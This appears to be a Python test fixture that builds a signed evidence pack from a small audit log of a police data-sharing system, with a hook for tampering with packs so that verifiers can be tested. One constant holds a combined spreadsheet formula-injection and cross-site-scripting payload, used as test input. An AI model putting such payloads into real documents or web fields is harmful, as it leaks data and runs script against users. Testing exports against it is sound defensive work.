# SPDX-License-Identifier: EUPL-1.2
"""A small log with one entry of each sort that a pack can hold, and the pack of its exporter; or one bent in a way.

Real tree, real signatures, real cosignatures. Not here: a broker.
"""

from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from uuid import UUID

from edge.pack_pages import WRITER, write_pages
from protocol.checkpoint import open_checkpoint
from protocol.commitments import commit, open_entry, without_subject
from protocol.covenant_bundle import pack as pack_covenant
from protocol.errors import InputError
from protocol.events import (
    Act,
    CovenantRef,
    Event,
    EventsErased,
    EventsExported,
    HitOpened,
    RequestRefused,
    SignalWithdrawn,
    StatisticsRead,
    Subject,
    Words,
)
from protocol.evidence_pack import PackContent, seal_pack
from protocol.ids import HitId, PartyId, PurposeId, SignalId
from protocol.messages import Opening
from protocol.pack_parts import (
    CHECKPOINT,
    ENTRIES,
    PROOFS,
    TABLE,
    PackedCovenant,
    PackEntries,
    PackEntry,
    PackManifest,
    PackProof,
    PackProofs,
    covenant_file,
    one_form,
)
from protocol.pack_table import write_table
from protocol.proven_entries import ProvenEntry, SubjectPart
from protocol.tiles import inclusion_proofs
from tests.fakes.covenants import CovenantKit, make_covenant
from tests.fakes.served_log import MOMENT, ServedLog

AGENCY = PartyId("police-oost")
PERSON = "medewerker-17"
PURPOSE = PurposeId("offender-prevention")
BEGINS = datetime(2026, 11, 21, tzinfo=UTC)
ENDS = BEGINS + timedelta(days=1)
KIT = make_covenant(now=MOMENT)
COVENANT_BUNDLE = pack_covenant(KIT.files)
EVIL = '=HYPERLINK("http://x/?"&A1);</td><script>alert(1)</script>'
"""Words of a justification that a spreadsheet and a browser would both fall for."""


def act(kit: CovenantKit, minutes: int, **more: object) -> Act:
    """Return the record part of an act so many minutes before the log's checkpoint was cosigned."""
    ref = CovenantRef(version=kit.covenant.version, sha256=kit.covenant.sha256)
    fields: dict[str, object] = {"agency": AGENCY, "person": PERSON, **more}
    return Act(time=MOMENT - timedelta(minutes=minutes), covenant=ref, **fields)  # type: ignore[arg-type]


def events(kit: CovenantKit = KIT) -> list[Event]:
    """Return the log's entries: one of the day before, some acts, an erasure, and an export."""
    signal, hit = SignalId(UUID(int=3)), HitId(UUID(int=4))
    words = Words(text=EVIL, case_reference="Z-1")
    return [
        RequestRefused(act=act(kit, 60 * 24, decision="deny"), code="policy_refused", rule="guard.agency-suspended"),
        SignalWithdrawn(
            act=act(kit, 50, purpose=PURPOSE, decision="allow"), subject=Subject(signal_ids=(signal,)), reason="ended"
        ),
        HitOpened(
            act=act(kit, 40, purpose=PURPOSE, justification="own-case", decision="allow", policy_ids=("open.hit",)),
            subject=Subject(hit_id=hit, signal_ids=(signal,), tag_digests=(b"t" * 32,), words=words),
        ),
        RequestRefused(act=act(kit, 30, decision="deny", policy_ids=("guard.x",)), code="policy_refused"),
        StatisticsRead(act=act(kit, 20, purpose=PURPOSE, agency="care-linde"), about=PURPOSE, cells=3),
        SignalWithdrawn(act=act(kit, 15, purpose=PURPOSE), subject=Subject(signal_ids=(signal,)), reason="mistake"),
        EventsErased(
            act=act(kit, 10, purpose=PURPOSE, justification="citizen-request"),
            ground="citizen-request",
            indexes=(5,),
            entries=1,
            subject=Subject(words=words),
        ),
        EventsExported(
            act=act(kit, 5, decision="allow"),
            scopes=("own",),
            log_purpose="self-monitoring",
            purposes=(PURPOSE,),
            entries=5,
        ),
    ]


@dataclass(frozen=True, slots=True)
class Bend:
    """What an exporter changes about its pack before it signs, so that only the pack's own content tells."""

    events: Callable[[list[Event]], list[Event]] = lambda listed: listed
    manifest: Mapping[str, object] = field(default_factory=dict)
    entries: Callable[[PackEntries], PackEntries] = lambda entries: entries
    proofs: Callable[[PackProofs], PackProofs] = lambda proofs: proofs
    files: Callable[[dict[str, bytes]], dict[str, bytes]] = lambda files: files
    cosigners: int = 2
    signer: PartyId = AGENCY


HONEST = Bend()


def make_pack(bend: Bend = HONEST, kit: CovenantKit = KIT) -> bytes:
    """Return a pack of the entries 1, 2, 3, 5 and 6 of the log, with 7 beside them; 5 is erased as 6 tells."""
    committed = [commit(one, bytes([n]) * 32, bytes([n + 100]) * 32) for n, one in enumerate(bend.events(events(kit)))]
    log = ServedLog(kit.log_signer, list(kit.witness_signers.values()), cosigners=bend.cosigners)
    log.leaves = [one.leaf for one in committed]
    log.sign()
    openings = [one.opening for one in committed]
    openings[5] = without_subject(openings[5])

    def entry(index: int, opening: Opening) -> PackEntry:
        return PackEntry(index=index, opening=opening, erased_by=6 if index == 5 else None)

    entries = PackEntries(
        entries=tuple(entry(index, openings[index]) for index in (1, 2, 3, 5, 6)), beside=(entry(7, openings[7]),)
    )
    manifest = PackManifest(
        form="sluis/evidence-pack/1",
        agency=AGENCY,
        person=PERSON,
        role="privacy-officer",
        log_purpose="self-monitoring",
        begins=BEGINS,
        ends=MOMENT - timedelta(minutes=5),
        covenant=PackedCovenant(version=kit.covenant.version, sha256=kit.covenant.sha256),
        exported_at=MOMENT - timedelta(minutes=5),
        exports=(7,),
        pages=WRITER,
        files={},
    )
    proofs = _proofs(log, [1, 2, 3, 5, 6, 7])
    files = {CHECKPOINT: log.note.encode(), covenant_file(kit.covenant.sha256): pack_covenant(kit.files)}
    manifest = manifest.model_copy(update=dict(bend.manifest))
    entries, proofs = bend.entries(entries), bend.proofs(proofs)
    files |= {ENTRIES: one_form(entries), PROOFS: one_form(proofs)}
    witnesses = [signer.key for signer in kit.witness_signers.values()]
    content = PackContent(
        manifest=manifest,
        cosigned=open_checkpoint(log.note, kit.log_signer.key, witnesses, 1),
        entries=_said(entries.entries),
        beside=_said(entries.beside),
        lacking=(),
    )
    files |= {TABLE: write_table(content.entries), **write_pages(content, files)}
    return seal_pack(manifest, bend.files(files), kit.signers[bend.signer])


def _proofs(log: ServedLog, indexes: Sequence[int]) -> PackProofs:
    tiles = {growth.tile: growth.hashes for growth in log.tree.growth}
    paths = inclusion_proofs(indexes, log.head.size, tiles)
    return PackProofs(
        proofs=tuple(PackProof(index=index, hashes=path) for index, path in zip(indexes, paths, strict=True))
    )


def _said(entries: Sequence[PackEntry]) -> tuple[ProvenEntry, ...]:
    """Read entries as their exporter says they are, proving nothing."""
    said = []
    for one in entries:
        try:
            opened = open_entry(one.opening)
        except InputError:
            continue
        part: SubjectPart = ("erased" if one.erased_by is not None else "left-out") if opened.erased else "whole"
        said.append(ProvenEntry(one.index, opened.event, one.opening, part, one.erased_by))
    return tuple(said)
